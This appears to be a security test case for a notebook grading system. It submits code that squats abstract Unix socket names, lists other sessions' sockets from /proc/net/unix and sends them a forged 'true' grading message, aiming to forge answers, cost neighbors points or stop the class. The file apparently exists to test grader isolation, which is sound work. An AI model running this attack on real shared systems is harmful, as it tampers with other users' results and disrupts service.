"""Connects to every abstract socket, pretends to be a session there, and claims the names it can.

Success: the answer of another session is forged, a neighbor loses points, or the class stops.
"""

ALONE = True


def attack(submission):
    submission.first(
        """
        import os, socket, time

        forged = b"\\x10\\0\\0\\0" + bytes(8) + b"\\1\\0\\0\\0\\4\\0\\0\\0true"
        kept = []
        for name in [b"grader", *(b"nbjudge-users-%d" % n for n in range(200000, 264000, 16384))]:
            try:
                claim = socket.socket(socket.AF_UNIX)
                claim.bind(b"\\0" + name)
                kept.append(claim)
            except OSError:
                pass
        for _ in range(40):
            try:
                lines = open("/proc/net/unix").read().splitlines()
            except OSError:
                lines = []
            for line in lines:
                name = line.split()[-1]
                if name.startswith("@") and name != "@grader":
                    try:
                        with socket.socket(socket.AF_UNIX) as client:
                            client.connect("\\0" + name[1:])
                            client.send(forged)
                    except OSError:
                        pass
            time.sleep(0.3)
    """
    )
